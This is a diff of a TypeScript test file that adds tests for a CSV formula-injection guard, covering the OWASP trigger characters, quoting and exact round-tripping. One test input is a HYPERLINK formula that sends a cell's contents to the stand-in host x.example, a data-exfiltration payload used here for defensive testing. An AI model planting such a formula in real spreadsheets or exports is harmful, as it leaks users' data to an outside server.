@@ -1,7 +1,7 @@
 // The CSV reader and writer: what spreadsheets actually save (quotes, commas and newlines inside
 // fields, CRLF, a BOM), and the errors that name the line.
 import { describe, expect, it } from 'vitest';
-import { csvField, formatCsv, isBlankRecord, parseCsv } from '../../src/domain/csv.js';
+import { csvField, formatCsv, guardSpreadsheetCell, isBlankRecord, parseCsv, unguardSpreadsheetCell } from '../../src/domain/csv.js';
 
 function fields(text: string): string[][] {
   const r = parseCsv(text);
@@ -82,5 +82,41 @@ describe('formatCsv', () => {
     const text = formatCsv(rows);
     expect(text.endsWith('\r\n')).toBe(true);
     expect(fields(text)).toEqual(rows);
+  });
+});
+
+describe('the spreadsheet formula guard', () => {
+  // OWASP's CSV injection triggers: a cell beginning with one of these is a formula to a spreadsheet.
+  const TRIGGERS = ['=', '+', '-', '@', '\t', '\r'];
+
+  it('prefixes every trigger with a single quote and quotes the field', () => {
+    for (const t of TRIGGERS) {
+      const value = `${t}1+1`;
+      expect(guardSpreadsheetCell(value)).toBe(`'${value}`);
+      expect(csvField(value)).toBe(`"'${value}"`);
+    }
+    expect(csvField('=HYPERLINK("https://x.example/?"&B2,"click")')).toBe(`"'=HYPERLINK(""https://x.example/?""&B2,""click"")"`);
+    // Triggers inside a cell, and plain text, are left alone.
+    for (const v of ['a=1', 'PIC-0042', '2024-09-30T23:30-04:00', '60+', 'CAD-2024/1.#2', '']) expect(csvField(v)).toBe(v);
+  });
+
+  it('gives a cell that truly begins with a quote before a trigger a quote of its own, and leaves other quotes alone', () => {
+    expect(guardSpreadsheetCell(`'=1+1`)).toBe(`''=1+1`);
+    expect(guardSpreadsheetCell(`''-2`)).toBe(`'''-2`);
+    expect(guardSpreadsheetCell(`'twas the night`)).toBe(`'twas the night`);
+    expect(unguardSpreadsheetCell(`'twas the night`)).toBe(`'twas the night`);
+  });
+
+  it('is undone exactly by unguardSpreadsheetCell, for any text', () => {
+    const parts = [`'`, `''`, ...TRIGGERS, 'a', ' ', '"', ',', '\n', '1'];
+    let values = [''];
+    for (let depth = 0; depth < 3; depth++) values = [...values, ...values.flatMap((v) => parts.map((p) => `${p}${v}`))];
+    expect(values.length).toBeGreaterThan(2000);
+    for (const v of values) expect(unguardSpreadsheetCell(guardSpreadsheetCell(v))).toBe(v);
+    // Through the CSV text too: what parseCsv reads back, unguarded, is the original.
+    const text = formatCsv(values.map((v) => [v, 'x']));
+    expect(fields(text).map((r) => unguardSpreadsheetCell(r[0]!))).toEqual(values);
+    // And no cell a spreadsheet reads starts a formula.
+    expect(fields(text).filter((r) => /^[=+\-@\t\r]/.test(r[0]!))).toEqual([]);
   });
 });
